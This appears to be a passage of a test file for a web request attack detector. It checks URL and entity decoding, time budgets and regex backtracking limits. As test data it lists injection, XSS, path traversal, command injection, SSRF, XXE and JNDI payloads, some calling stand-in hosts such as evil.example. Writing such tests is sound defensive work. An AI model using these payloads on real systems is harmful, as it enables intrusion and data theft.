import t from 'tap'
import { ATTACK_PATTERNS, AttackDetector, JUDGE_OVERLAP, JUDGE_WINDOW, type AttackInputs } from '../../src/insight/attacks.ts'
import { DECODE_PATTERNS, DECODE_PIECE, decodeLongValue, decodeValue, lastDecode, percentDecode, validUtf8 } from '../../src/insight/decode.ts'
import { evaluateCorpus } from './corpus/evaluate.ts'
import { defaultDetector } from '../helpers/detector.ts'

const detector = defaultDetector()
const base: AttackInputs = { path: '/api/items', query: '', headers: { 'user-agent': 'Mozilla/5.0 Firefox/127.0' }, body: null }
const q = (value: string) => detector.detect({ ...base, query: `q=${encodeURIComponent(value)}` })
const json = (doc: unknown) => detector.detect({ ...base, headers: { 'content-type': 'application/json' }, body: Buffer.from(JSON.stringify(doc)) })

t.test('decoding: repeated URL encoding, HTML entities, JavaScript escapes, overlong UTF-8, malformed escapes', async (t) => {
  t.equal(decodeValue('%253Cscript%253E'), '<script>')
  t.equal(decodeValue('&lt;img src=x onerror&#x3d;alert&#40;1&#41;&gt;'), '<img src=x onerror=alert(1)>')
  t.equal(decodeValue('\\u003cscript\\x3e'), '<script>')
  t.equal(decodeValue('%c0%ae%c0%ae/etc'), '../etc')
  t.equal(decodeValue('%u003cb%u003e'), '<b>')
  t.equal(decodeValue('a+b', true), 'a b')
  t.equal(decodeValue('a+b'), 'a+b', '+ is a space only in queries and forms')
  t.equal(percentDecode('100% sure %zz %e9t%C3%A9'), '100% sure %zz %e9té', 'broken escapes stay, valid ones are decoded')
  t.equal(percentDecode('20% off: %3Cb%3E'), '20% off: <b>', 'a stray % beside valid escapes: the valid ones decoded all the same')
  t.equal(percentDecode('%E2%82%AC5'), '€5', 'a value of valid escapes only: decoded whole')
  t.equal(decodeValue('a%00b%01c'), 'a\0bc', 'NUL stays (attacks rely on it), other controls go')
})

t.test('a long value is decoded piece by piece as it is whole: no escape, nor one a second round makes, is split between pieces', async (t) => {
  // escapes of every kind, double-encoded ones, broken ones, blanks and signs, and a line of prose now and then (where pieces are cut)
  const tokens = ['%3C', '%253C', '%25%33%43', '&lt;', '&#x3d;', '&#40;', '&amp;lt;', '\\u003c', '\\u{2f}', '\\x3e', '%u003c', '%c0%ae', '%E2%82%AC', '%A0', '%', '&', '\\', '%zz', 'abc', '42', ' ', '+', '=', '"', '<', '/', '\u00a0', '\uff53\uff43', '%00', '%01', '\u0001', ';', '#', '{', '}', '\ud83d\ude00']
  const prose = ' and then the order went out to every one of the shops in the town, as it does each week '
  let seed = 7
  const next = (n: number) => (seed = (seed * 1103515245 + 12345) % 2147483648) % n
  for (let i = 0; i < 32; i++) {
    let raw = ''
    // (review: and escapes all along, no clean cut in reach: a piece then ends before an escape whose text decodes as the whole's does)
    const dense = i % 2 === 1
    while (raw.length < 2 * DECODE_PIECE + 5000) raw += !dense && next(200) === 0 ? prose : tokens[next(tokens.length)]!
    const plus = i % 4 < 2
    const byApp = i % 8 < 4
    const whole = decodeValue(raw, plus, byApp)
    const flags = { ...lastDecode }
    t.equal(decodeLongValue(raw, plus, byApp, Infinity), whole, `value ${i}: the same text`)
    t.same({ ...lastDecode }, flags, `value ${i}: the same account of what decoding made`)
  }
  // escapes all along, one across a piece's longest end: decoded whole in the next piece
  for (const shift of [1, 3, 6, 9, 14]) {
    const raw = '%41'.repeat(Math.ceil(DECODE_PIECE / 3)).slice(0, DECODE_PIECE - shift) + '%3Cscript%3E' + '%41'.repeat(3000)
    t.ok(decodeLongValue(raw, false, false, Infinity).includes('<script>'), `the tag ${shift} before the end`)
  }
  // (review) a quote given twice at a seam hid an injection in a 16.7 KB header of encoded blanks: no text is given twice
  const padded = '%20'.repeat(5458) + "x'%20OR%20'1'%3D'1" + '%20'.repeat(100)
  t.equal(decodeLongValue(padded, false, false, Infinity), decodeValue(padded), 'escapes all along, the injection across the first piece\'s end')
  // (a header is judged up to maxInspectBytes: one that allows it)
  t.same(new AttackDetector({ maxInspectBytes: 64 * 1024 }).detect({ ...base, headers: { ...base.headers, 'x-search': padded } }), ['sqli'], 'read in a header past 16 KiB')
  // out of time after the first piece: what was decoded so far, and the cut said
  const raw = 'a%3Cb '.repeat(DECODE_PIECE)
  const first = decodeLongValue(raw, false, false, 0)
  t.equal(lastDecode.cut, true)
  t.ok(first.length > 0 && first.length < raw.length / 2, 'a prefix of the value')
  t.ok(decodeValue(raw).startsWith(first), 'decoded as the whole is')
  t.equal(lastDecode.cut, false, 'the next decoding starts uncut')
})

t.test('a value past JUDGE_WINDOW is judged window by window: a payload anywhere in it, across a window\'s end too, is read', async (t) => {
  const big = new AttackDetector({ maxInspectBytes: 256 * 1024 })
  const text = (at: number, payload: string) => {
    const filler = 'plain words of a long text body and nothing else in them '.repeat(5000).slice(0, 200 * 1024)
    return { ...base, headers: { 'content-type': 'text/plain' }, body: Buffer.from(filler.slice(0, at) + payload + filler.slice(at)) }
  }
  const payload = '<script>alert(document.cookie)</script>'
  t.same(big.detect(text(0, '')), [], 'the filler alone is nothing')
  t.same(big.detect(text(100 * 1024, payload)), ['xss'], 'far past the first window')
  // across the first window's end, and at places all along (each later window starts up to JUDGE_OVERLAP before the last one's end)
  for (const at of [JUDGE_WINDOW - 20, JUDGE_WINDOW - 5, JUDGE_WINDOW - JUDGE_OVERLAP + 3]) t.same(big.detect(text(at, payload)), ['xss'], `across a window's end (at ${at})`)
  for (let at = 1000; at < 200 * 1024; at += 7919) t.same(big.detect(text(at, payload)), ['xss'], `at ${at}`)
  // (review) a window that opens inside a Markdown code block is told so: what follows the block's closing fence is no code
  const prose = 'plain words of a long text body and nothing else in them '
  for (const len of [JUDGE_WINDOW - 2000, JUDGE_WINDOW - 600]) {
    const page = '# Notes\n' + prose.repeat(2000).slice(0, len) + '\n```\n' + 'x = 1\n'.repeat(300) + '```\n' + payload + '\n```\ny = 1\n```\n' + prose.repeat(100)
    t.same(big.detect({ ...base, headers: { 'content-type': 'text/plain' }, body: Buffer.from(page) }), ['xss'], `a fence across a window's end (${len})`)
  }
})

/** performance.now made a clock that moves `step` ms at each reading, until `restore()` or the test's end; `clock` counts from 0 */
function fakeClock(t: { teardown(fn: () => void): void }, step: number): { clock: number; restore(): void } {
  const now = performance.now.bind(performance)
  const c = { clock: 0, restore: () => (performance.now = now) }
  performance.now = () => (c.clock += step)
  t.teardown(c.restore)
  return c
}

t.test('a long value cannot outrun the time budget: its decoding and its windows read the clock', async (t) => {
  const fake = fakeClock(t, 1)
  const d = new AttackDetector({ maxInspectBytes: 1024 * 1024, maxInspectMs: 5 })
  const body = (unit: string, type: string) => ({ ...base, headers: { 'content-type': type }, body: Buffer.from(unit.repeat(Math.floor((1024 * 1024 - 100) / unit.length)) + " 1' OR '1'='1") })
  // a megabyte of braces (a signature's bounded look at every position: most of a second judged whole), of entities (a quarter of
  // a second decoded whole): the injection at its end is past the budget, and the request is cut, not judged to its end
  for (const [unit, type] of [['{', 'text/plain'], ['&#1', 'text/plain'], ['{', 'application/x-www-form-urlencoded']] as const) {
    fake.clock = 0
    t.same(d.detect(body(unit, type)), [], `${type}, ${JSON.stringify(unit)}: the end is not judged`)
    t.equal(d.cut, true, 'and the request is cut')
    t.ok(fake.clock < 64, `the clock was read between pieces, not once a character (${fake.clock} readings)`)
  }
  // (review) an XML body's long attribute or text, unescaped piece by piece: a megabyte of `&lt;` took 0.1 s before any value was judged
  const xml = { ...base, headers: { 'content-type': 'application/xml' }, body: Buffer.from(`<a b="${'&lt;'.repeat(262_000)}"/><c>1' OR '1'='1</c>`) }
  fake.clock = 0
  t.same(d.detect(xml), [], 'an XML body: the text after a megabyte attribute is not judged')
  t.equal(d.cut, true)
  t.ok(fake.clock < 64, `the clock was read between pieces (${fake.clock} readings)`)
  fake.restore()
  t.same(new AttackDetector({ maxInspectBytes: 1024 * 1024 }).detect(xml), ['sqli'], 'without a budget, the XML body is read to its end')
  t.same(new AttackDetector({ maxInspectBytes: 1024 * 1024 }).detect(body('&#1', 'text/plain')), ['sqli'], 'without a budget, the whole is judged')
})

t.test('each class: positives', async (t) => {
  t.same(q("1' OR '1'='1"), ['sqli'])
  t.same(q('1 UNION SELECT password FROM users'), ['sqli'])
  t.same(q("1'; DROP TABLE users--"), ['sqli'])
  t.same(q('<script>alert(1)</script>'), ['xss'])
  t.same(q('<img src=x onerror=alert(1)>'), ['xss'])
  t.same(detector.detect({ ...base, path: '/static/../../../etc/passwd' }), ['path_traversal'])
  t.same(q('; cat /etc/passwd'), ['path_traversal', 'rce'], 'a command reading a system file is both')
  t.same(q('$(whoami)'), ['rce'])
  t.same(q('{{7*7}}'), ['ssti'], 'template injection')
  t.same(q('http://169.254.169.254/latest/meta-data/'), ['ssrf'])
  t.same(q('http://0x7f000001/'), ['ssrf'], 'a hex-spelled loopback address')
  t.same(json({ user: { $ne: null }, password: { $ne: null } }), ['nosqli'], 'operators as JSON keys')
  t.same(detector.detect({ ...base, query: 'user[$ne]=x&pass[$ne]=x' }), ['nosqli'], 'operators as query names')
  t.same(q('*)(uid=*))(|(uid=*'), ['ldapi'])
  t.same(detector.detect({ ...base, headers: { 'content-type': 'application/xml' }, body: Buffer.from('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>') }), ['xxe'])
  t.same(detector.detect({ ...base, headers: { 'x-api-version': '${jndi:ldap://evil.example/a}' } }), ['jndi'], 'in any header')
  t.same(detector.detect({ ...base, headers: { 'user-agent': 'sqlmap/1.7' } }), ['scanner'])
  t.same(detector.detect({ ...base, path: '/.git/config' }), ['scanner'])
})

t.test('evasion by encoding and obfuscation', async (t) => {
  t.same(detector.detect({ ...base, query: 'q=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }), ['xss'], 'double URL encoding')
  t.same(q('&lt;script&gt;alert(1)&lt;/script&gt;'), ['xss'], 'HTML entities')
  t.same(json({ c: '\u003cimg src=x onerror=alert(1)\u003e' }), ['xss'], 'JSON unicode escapes')
  t.same(q('1 UN/**/ION SE/**/LECT 1'), ['sqli'], 'SQL comments inside keywords')
  t.same(q('1/**/OR/**/1=1'), ['sqli'], 'SQL comments as spaces')
  t.same(q('<ScRiPt>alert(1)</sCrIpT>'), ['xss'], 'mixed case')
  t.same(detector.detect({ ...base, path: '/a/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd' }), ['path_traversal'], 'overlong UTF-8 dots')
  t.same(detector.detect({ ...base, headers: { referer: '${${lower:j}${::-n}di:ldap://evil.example/x}' } }), ['jndi'], 'nested lookups')
  t.same(detector.detect({ ...base, headers: { 'user-agent': '${${env:X:-j}ndi${env:X:-:}ldap://e.example/a}' } }), ['jndi'])
  t.same(detector.detect({ ...base, headers: { cookie: `theme=dark; session=${encodeURIComponent("' OR 1=1--")}` } }), ['sqli'], 'in a cookie value')
  t.same(detector.detect({ ...base, headers: { 'content-type': 'multipart/form-data; boundary=XyZ' }, body: Buffer.from('--XyZ\r\nContent-Disposition: form-data; name="bio"\r\n\r\n<svg onload=alert(1)>\r\n--XyZ--\r\n') }), ['xss'], 'in a multipart part')
  t.same(detector.detect({ ...base, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: Buffer.from('name=x&bio=%3Cscript%3Ealert(1)%3C%2Fscript%3E') }), ['xss'], 'in a form field')
})

t.test("the first held-out set's misses, now signatures", async (t) => {
  const xml = (body: string) => detector.detect({ ...base, headers: { 'content-type': 'application/xml' }, body: Buffer.from(body) })
  t.same(q("1' RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))--"), ['sqli'], 'a boolean inside CASE WHEN')
  t.same(q('<a href="jav&#x09;ascript:alert(1)">x</a>'), ['xss'], 'a tab inside the scheme, which browsers drop')
  t.same(q('"autofocus onfocus=alert(1)//'), ['xss'], 'a break-out with an attribute before the handler')
  t.same(q('; /bin/cat /etc/shadow'), ['path_traversal', 'rce'], 'a command by its absolute path')
  t.same(q('http://017700000001/'), ['ssrf'], 'a 12-digit octal address')
  t.same(xml('<!DOCTYPE p PUBLIC "-//X//EN" "http://evil.example/x.dtd"><p/>'), ['xxe'], 'an external DTD by PUBLIC id')
  t.same(xml('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>'), [], "the W3C's XHTML doctype is not")
})

t.test('tricky negatives: what naive detectors flag', async (t) => {
  const benign = [
    "O'Brien",
    "Rock 'n' roll never dies",
    "I read 'Dune' and others like it",
    'Please select the items from the list where you want delivery',
    'Union Street; drop by at 5',
    'if (a < b) { return x; }',
    'a <= b && b >= c',
    '<b>bold</b> and <a href="https://example.com">a link</a>',
    'SELECT * FROM users is slow, any idea?',
    'Run ls -la to see hidden files',
    'see ../README.md',
    'Hello ${name}, your order {{order_id}} shipped',
    'https://example.com/callback?state=xyz',
    '{"$schema": "http://json-schema.org/draft-07/schema#"}',
    'Prices from $5 to $50 (tax incl.)',
    'f(x)(y) = 2',
    'time.sleep(5)',
    '<!DOCTYPE html><html><body>hi</body></html>',
    'javascript tutorial: closures',
    "We're #1; call us",
  ]
  for (const v of benign) t.same(q(v), [], JSON.stringify(v))
  t.same(json({ note: "it's fine", tags: ['or', 'and'], price: '$5' }), [])
  t.same(detector.detect({ ...base, headers: { referer: 'http://localhost:3000/checkout' } }), [], "a browser's local page URL is no forgery")
  t.same(detector.detect({ ...base, path: '/blog/it%27s-a-trap' }), [])
})

t.test('JSON bodies: repeated keys and values are judged once, and still found', async (t) => {
  const items = Array.from({ length: 50 }, (_, i) => ({ sku: `SKU-${i}`, note: 'gift wrap, please & thanks' }))
  t.same(json({ items }), [], 'a list of objects with "&" in every note')
  t.same(json({ items: [...items, { sku: { $ne: null } }] }), ['nosqli'], 'an operator key after fifty ordinary ones')
  t.same(json({ items: [...items, { note: '<svg onload=alert(1)>' }] }), ['xss'], 'a distinct hostile value after repeated ones')
  t.same(json([{ q: "' OR 1=1--" }, { q: "' OR 1=1--" }]), ['sqli'])
})

t.test('the inspected bytes are bounded by maxInspectBytes', async (t) => {
  const small = new AttackDetector({ maxInspectBytes: 64 })
  const body = Buffer.from(`comment=${'a'.repeat(100)}%3Cscript%3Ealert(1)%3C%2Fscript%3E`)
  const inputs = { ...base, headers: { 'content-type': 'application/x-www-form-urlencoded' }, body }
  t.same(small.detect(inputs), [], 'an attack past the limit is not read')
  t.same(new AttackDetector({ maxInspectBytes: 4096 }).detect(inputs), ['xss'])
})

t.test('the time spent on a request is bounded by maxInspectMs: the values past it are not judged, and the detector says so', async (t) => {
  const prose = 'A long comment about the order, with commas, quotes (like "this") and dashes -- as people write them.'
  const body = Buffer.from(JSON.stringify({ note: prose, query: "1' OR '1'='1" }))
  const inputs = { ...base, headers: { 'content-type': 'application/json' }, body }
  const whole = new AttackDetector({ maxInspectBytes: 4096 })
  t.same(whole.detect(inputs), ['sqli'], 'without a budget every value is judged')
  t.equal(whole.cut, false)
  // a budget already spent when the first long value comes: nothing of the body is judged
  const none = new AttackDetector({ maxInspectBytes: 4096, maxInspectMs: 0 })
  t.same(none.detect(inputs), [], 'past the budget the attack is not read')
  t.equal(none.cut, true, 'and the request is marked cut')
  // a path's segments are values too (a verdict cut short is not remembered: memoize's keep test)
  const path = `/items/1%20union%20select%20password%20from%20users%20where%20name%20like%20'${'a'.repeat(40)}'--`
  t.same(none.detect({ ...base, path }), [])
  t.equal(none.cut, true)
  t.same(whole.detect({ ...base, path }), ['sqli'], 'judged whole, the segment is an injection')
  const generous = new AttackDetector({ maxInspectBytes: 4096, maxInspectMs: 60_000 })
  t.same(generous.detect(inputs), ['sqli'])
  t.equal(generous.cut, false, 'a request judged whole is not cut')
})

t.test('one value costlier than the budget is cut inside its reading: the shell reader reads the clock (fifty-first round)', async (t) => {
  // a 14 KB value of pipes (`|+` repeated, then a command): the shell reader took 15 ms over it, three times the budget, reading no clock
  const inputs = { ...base, headers: { 'content-type': 'text/plain' }, body: Buffer.from('|+'.repeat(7000) + '; cat /etc/passwd') }
  t.same(new AttackDetector({ maxInspectBytes: 16 * 1024 }).detect(inputs), ['path_traversal', 'rce'], 'without a budget, the command at the end is found')
  const fake = fakeClock(t, 1)
  const d = new AttackDetector({ maxInspectBytes: 16 * 1024, maxInspectMs: 5 })
  t.notOk(d.detect(inputs).includes('rce'), 'with one, the reading stops once the clock passes it')
  t.equal(d.cut, true, 'and the request is counted as cut')
  t.ok(fake.clock < 200, `the clock read every 256 characters at most, not at each (${fake.clock} readings)`)
  fake.restore()
  t.same(d.detect({ ...base, query: 'q=%3Bcat%20%2Fetc%2Fpasswd' }), ['path_traversal', 'rce'], 'the next request has a budget of its own')
  t.equal(d.cut, false)
})

t.test('a run of escapes is told valid UTF-8 as decodeURIComponent tells it, without its throw (fifty-first round)', async (t) => {
  const thrown = (run: string) => {
    try {
      decodeURIComponent(run)
      return true
    } catch {
      return false
    }
  }
  const hex = (b: number) => `%${b.toString(16).padStart(2, '0')}`
  // each byte from the ranges that matter: ASCII, continuation bytes, every lead byte and the invalid ones (C0, C1, F5–FF)
  const bytes = [0x00, 0x41, 0x7f, 0x80, 0x8f, 0x90, 0x9f, 0xa0, 0xbf, 0xc0, 0xc1, 0xc2, 0xdf, 0xe0, 0xe1, 0xec, 0xed, 0xee, 0xef, 0xf0, 0xf1, 0xf3, 0xf4, 0xf5, 0xff]
  let n = 0
  let differ = 0
  const seen = (run: string) => {
    n++
    if (validUtf8(run) !== thrown(run) && differ++ < 5) t.fail(`${run}: ${validUtf8(run)}`)
  }
  for (const a of bytes) {
    seen(hex(a))
    for (const b of bytes) {
      seen(hex(a) + hex(b))
      for (const c of bytes) {
        seen(hex(a) + hex(b) + hex(c))
        for (const d of [0x80, 0x8f, 0x90, 0xbf, 0xc0, 0x41]) seen(hex(a) + hex(b) + hex(c) + hex(d).toUpperCase())
      }
    }
  }
  t.equal(differ, 0, `${n} runs of one to four escapes read alike`)
  t.equal(percentDecode('<%e1'.repeat(4)), '<%e1'.repeat(4), 'lone lead bytes are left as they are')
  t.equal(percentDecode('%e2%82%ac%41%e1'), '%e2%82%acA%e1', 'a run with a broken sequence is decoded byte by byte')
  t.equal(percentDecode('%e2%82%ac %41'), '\u20ac A', 'a valid one as UTF-8')
})

t.test("locating a flagged request's matches shares one time budget across its parts (not one each)", async (t) => {
  // a clock that moves 10 ms each time it is read: the budget (15 ms) covers one long value's reading, not two
  const fake = fakeClock(t, 10)
  const d = new AttackDetector({ maxInspectBytes: 4096, maxInspectMs: 15 })
  const xss = '<script>alert(1)</script>' + ' and some words after it to make the value long'.repeat(2)
  const inputs = { ...base, headers: { 'content-type': 'application/json', 'x-note': xss }, body: Buffer.from(JSON.stringify({ note: 'a long comment about the order, with words enough to be a long value, and more of them' })) }
  // detect: the header is read in time, the body (read after the headers) is past the budget
  t.same(d.detect(inputs), ['xss'])
  t.equal(d.cut, true)
  // locate judges the body before the headers: its one budget is spent there, and the header is not placed
  t.same(d.locate(inputs), [], 'the parts after the budget are not judged again')
  fake.restore()
  t.same(new AttackDetector({ maxInspectBytes: 4096, maxInspectMs: 60_000 }).locate(inputs).map((m) => m.type), ['xss'], 'with time, the header is placed')
})

t.test('locating a request of many short headers reads the clock across them: past the budget no header is judged again', async (t) => {
  // (an audit's finding) each header judged alone reset the count of short values between clock readings: a request of a
  // thousand short headers was judged whole while locating, whatever the budget
  const fake = fakeClock(t, 1)
  const d = new AttackDetector({ maxInspectBytes: 64 * 1024, maxInspectMs: 50 })
  const headers: Record<string, string> = {}
  for (let i = 0; i < 400; i++) headers[`x-h${i}`] = 'ok'
  headers['x-evil'] = '<svg onload=a>'
  const inputs = { ...base, headers }
  t.same(d.detect(inputs), ['xss'], 'detect reads the clock on every sixteenth short value: judged whole within the budget')
  fake.clock = 0
  t.same(d.locate(inputs), [], 'locate: the budget is spent before the last header, which is not judged again')
  t.ok(fake.clock < 120, `the clock was read about once a header until the budget ran out (${fake.clock} readings)`)
  fake.restore()
  t.same(new AttackDetector({ maxInspectBytes: 64 * 1024, maxInspectMs: 60_000 }).locate(inputs), [{ type: 'xss', where: 'header:x-evil', value: '<svg onload=a>' }], 'with time, it is placed')
})

t.test('hostile inputs never throw', async (t) => {
  const weird = ['%', '%%', '%zz', '&#99999999;', '\\u{110000}', '\\ud800', '${${${${', '{"a":', '\u0000'.repeat(100), '<'.repeat(10_000)]
  for (const w of weird) {
    t.doesNotThrow(() => q(w))
    t.doesNotThrow(() => detector.detect({ ...base, headers: { 'content-type': 'application/json' }, body: Buffer.from(w) }))
  }
})

t.test('every detector pattern finishes on long adversarial input (no catastrophic backtracking)', async (t) => {
  const units = [
    'a', '1', ' ', '/', '.', '..', '../', '(', ')(', '*)', '<', '<a ', "'", '"', '%', '$', '${', '{{', ':', '//', '\\', 'a=', ';', '|', '`', 'or ', '1 or 1', '/*', '&#',
    // decoding's and the gates' own repetitions
    '%c0', '%2', '%u00', '&#x', '&amp', '\\u00', '\\x', '\r\n', "' ", ') ', '& ', '$(', 'x://', 'http://a@', '<!entity ', 'boundary=',
    // the third round's template, redirect, splitting, query and probe shapes
    '<%', '{%', '#{', '@(', '[[${', '{{a.', '{{ .', '?x=', 'a&b=', '\na:', '//a', '@a.', 'a.sql.', '/web-inf/', '```', '![', '&rsquo;', '${a:1',
    // the fourth round's batch, mail, component-script, embed, dangling-markup and evaluator shapes
    'if ', 'for /l %', '\ra1 ', '<script setup>\nconst a=', '<iframe src=a.html ', '<img src="//a', 'eval(\'', '{{a.constructor(\'', '\\\'', '0x0a', '.php.', '[e]', 'a::', '?url=dict://',
    // the fifth round's block parameters, program and comment lines, PHP statements, template probes, file-name keys
    'do |a, ', '{ |a|', '\n  def ', '\n  # ', '\n// ', "readfile('", "';exit(md5('", '${1/((', '?string(', '{{1 / (', '\\.(a|', 'a.js', '\u200b', '[0000:',
    // the sixth round's balanced breakouts, quote-split words, glob-spelt paths and cmd variable marks
    "a'^0!='", "c'a'", 'c"a"', '/???', '/?', '/[e/', '/*', '/b**', '%!', '!a!', '(1)*', 'file:////./', '/./', '//a ', '//a:1', '//a:1:1', 'a;@', 'a$a', 'a$a/', '$a+',
    // the ninth round's pipes into a shell, cd chains, accessors, tables, dashed labels, host-like paths and schemes
    'a | ', '| sh', 'cd /', 'cd a', 'get;', ' set', '| a |', '|---', '127-0-0-1.', '10-', '/a.', '../a.', 'hT', 'HTTPs', '[[ ${a:1:1} ', 'local_file:', 'file://127.0.0.1/', '.oast.',
    // the eleventh round's PHP statements, computed property names and programs by path
    '<?php ', '<?=', '; $a=', '$a(', '$a[a](', ";include '", "fopen('a.php", 'top[', "['a'+", "]['", '[[', '/a/.source', '/bin/', '/bin/ls ', 'ping -n ', '/usr/bin/id;',
    '../', '/..', 'a=b&', 'a=', '&a', '.constructor`', "'constructor'", ',alert(', 'a<x>', '<x>a', '"];', '((', '¼a', '¼a¾', '\\141', '\\1411', ';.shell ', '\n. ', '.system ', 'ahttp://', 'hthttp://tp://', '${url:a:', '${dns:address|', '${base64:', '${ldap://', '(&)', '(|(&', '\u560d', 'db.eval(', "'+function(x){", '}(this)',
    // the twelfth round's JSX handlers, multi-line literals, placeholders, regex literals, shell scripts' shapes, routines, hosts, templates and markers
    'onx={', 'onx={(', '={this.', '@"', '""', '"""', "'''", '`', "'<a>'", '= /', '=/a|', '(/[', '[[ ', '#!/bin/', '#! /usr/bin/env ', '\t', '\n}', '\ta\n', 'create procedure ', 'union select ', "exec('create ",
    // the fourteenth round's literal joins, special variables, attribute descriptions, LDAP URLs, leading breaks, addresses with ports and nested redirects
    "{{'a'+'", "${'a'~'", '${.a', '{{{}.__class__.', '#{a.class.', "globals['", '*)(1.', '*)(a:dn:', '*)|(', '?sub??(', '\r\n', '%%0d0d', '\u0000\n', '200 ok\n', '127.0.0.1:', '[::]:', '/..//', '?next=/', 'a-169.254.169.254.', '....//', '..%2f', 'var/log/', 'home/a/.', 'data:,', '..tostring(', '<a+', ' id=', 'ng-a=$event', '\t//', '/\n', '/..%2f', '/..;/', '{{7<', '{{7 in [', '{{(', "${'a'?", '#{function(', '<%namespace ', 'a.$', '$((1+', ';a=$(', 'qx{', 'io.popen(\'', 'w^', 'register_shutdown_function(\'', 'https://a\u0435', 'jdbc:a:', 'jdbc:a://', 'jar:a!/', 'get http://', '*(|(', '*|(', ')|(&)', 'a)(b:1.2.3:=', 'then sleep 1; else sleep ', '$bash -c ', 'print `id', '(system)(\'', 'array_walk(a, \'', 'strrev(\'', 'process.start(\'', '&&a&&', '<!doctype+a+[<!entity+', '||a.com', 'https://\\1', 'a unless b && c', '  # a\n', 'a(b);\n',
    // the review's shapes: a clause with a wildcard after `))`, a status's reason, a Windows root path, system folders, a clobbering name unquoted, a climb to a page
    '))(a=b*', '))(a:b:=', '200 not found', '\\ra', 'etc/a.conf', 'proc/self/', 'windows/a.ini', ' id=alert', 'view.alert(', '/../a.html', 'config.inc.php',
    // the nineteenth to twenty-second rounds' shapes: stacked statements, constants compared, interpreters, downloads, brace lists,
    // parameter cuts, joined literals, callbacks, markup hosts, foreign schemes, cmd's substrings, trailing breaks, EL objects, program lines
    "1'; show ", '1=1', '1 < -', '(select 1)', '1.e(', 'cmd /c ', 'powershell -c ', 'node -e \'', 'curl http://a.oastify.com ', 'cat<>/', 'x=cat;$x ', '{wget,http://', '${ifs}', '${a%%', '${a#', "'a'+'", '.findindex(alert)', '<meta http-equiv=refresh', '<form action=//a>', '<img src=//a.oast.a.com>', 'file://a', 'ping%a:~1,2%', 'crlf\n', '${request.geta(', '{{= _.', 'function(){ return ', 'file:///private/', 'http://a/latest/meta-data/', '\u201c--', '    a(b)\n', 'val a = ', '[1,alert,1][1]', '/alert(1)', 'onhashchange=eval;',
    '"pg_user"', 'http://a', 'redis://127.0.0.1', 'file:///a/', '{{7*7*7', '{{7*7|', '${[].__class__', "#{''.class.", '{{request.a.', '; echo a_b', '&& ping a.com ', ' \u2013i', 'find / -', '${${lookup:l}', '${date:a}', ':ldap://', '\r\nexpires:', '\n\n<details ', '{{a(', '|| ("1"="1', 'sockets.tcpclient(\'', 'tcpsocket.new(\'', '/\ta.', ';//a.', ' //a', '%2525', '%6',
    // the forty-first round's PowerShell scripts' and signatures' shapes
    'iex ', 'downloadstring ', '| iex', '@(1,', "@{'a' = 1;", '$a -eq ', '-not $', 'get-item ', 'function a-b ', '(a: &', 'f(a& ', 'a& b,', '`a\n', '| --- ', '{{a_namespace',
  ]
  const inputs = units.flatMap((u) => {
    const run = u.repeat(Math.ceil(50_000 / u.length))
    // a token then one long blank run: two adjacent \s* (around an optional token) split it quadratically
    // (review of the twenty-sixth round) and a run ending on a line break: a token read whole to its end (`\S*$`) fails there after every retry
    return [run, run + '!', run + '\n', '<svg ' + run, u + ' '.repeat(50_000), u + '\n'.repeat(50_000) + u]
  })
  // (forty-ninth round, security) a unit, then a short run of one sign that a pattern can split into its items in many ways, then a sign
  // that fails the match: an optional separator between items made `@(` then 30 digits take 30 s (PS_LITERAL_COLLECTION) — exponential
  // in the run, so 48 of a sign is enough, and a pattern that splits it hangs this test
  for (const u of units) for (const c of RUN_SIGNS) inputs.push(u + c.repeat(48) + '\u0001')
  let slowest = 0
  for (const re of ATTACK_PATTERNS) {
    const t0 = performance.now()
    for (const s of inputs) {
      re.lastIndex = 0
      re.test(s)
    }
    slowest = Math.max(slowest, performance.now() - t0)
  }
  t.comment(`${ATTACK_PATTERNS.length} patterns x ${inputs.length} inputs of ~50 KB; the slowest pattern took ${slowest.toFixed(0)} ms in all`)
  t.ok(ATTACK_PATTERNS.length > 60, 'all patterns ran')
  t.ok(DECODE_PATTERNS.every((re) => ATTACK_PATTERNS.includes(re)), "decoding's patterns are among them")
})

/** what a split-prone run is made of: digits, letters, a variable's name, blanks (the ReDoS check above) */
const RUN_SIGNS = ['1', 'a', '$a', ' ', '\t', 'a ', '1,', '.']

t.test('whole requests of 16 KiB adversarial runs finish (decoding, gates and signatures together)', async (t) => {
  const units = ['\r\n', ' ', "' or ", '%25', '&#x3c;', '\\u003c', '${', '../', ')(', '<a onx=', '; ', '{"$ne":', '#x\n', '--a\n', '<script setup>\nconst a = 1\n', 'time -l 1 ', "\\'", 'if "a"=="b" ', 'x.each do |a| ', '\n  def a\n  # <script>\n', '```\n```sh\n', "aa'^0!='1 ", "c'a't ", '/???/c?t ', '/[?]tc/', '/?*/*?/', '(1)*(1)*', 'x | sh ', 'cd / ; ', '| a | b |\n|---|---|\n', '<?xml version="1.0"?><a b=";id">', 'get; set; ', '<?php $a=', "; $a='a'.", "top['a'+", '/bin/ls -a ', 'a=../&', "a='constructor';", 'o<x>n', '¼script¾', '\\141\\154', ';\n.system a ', "const a = require('child_process')\n", '  <li onClick={() => a}>\n', 'var re = /a|b/;\n', '\tsudo a && b\n', '[[ -n a ]] && b\n', '#!/bin/sh\n', 'html = """<a onclick=x>\n',
    // (nineteenth to twenty-second rounds) separators before substitutions after long blanks, stacked statements, backticks that do not pair,
    // variables holding programs, brace lists, vertical tabs, no-break spaces, curly quotes, trailing breaks, indented call lines
    '                $(', "1'; show tables-- ", '1`=`1` ', 'x=cat;$x ', ';{ls,}', 'a\x0bb ', 'a\u00a0b ', '\u201c"\u2033 ', 'a\n\n', '    a(b)\n',
    // (twenty-fifth round) a Markdown page's indented lines, the field separator reset, `find -exec`, a `${{` template, a version range, dot-joined spans
    '# h\n\n    <a>\n', ';ifs=,;cat,', 'find . -exec id ', '${{ 7*7 }} ', 'npm@">= 1" ', '`a`.`b c` ',
    // (fifty-first round) the runs one value of which outran the budget: pipes, lone lead bytes, lookups, escaped quotes, comments, images, icons
    '|+', '"|', '<%e1', '{$', '${;', '{{${', "'\\'", '<!--\n', '![', '<svg<', '&&', '&\n',
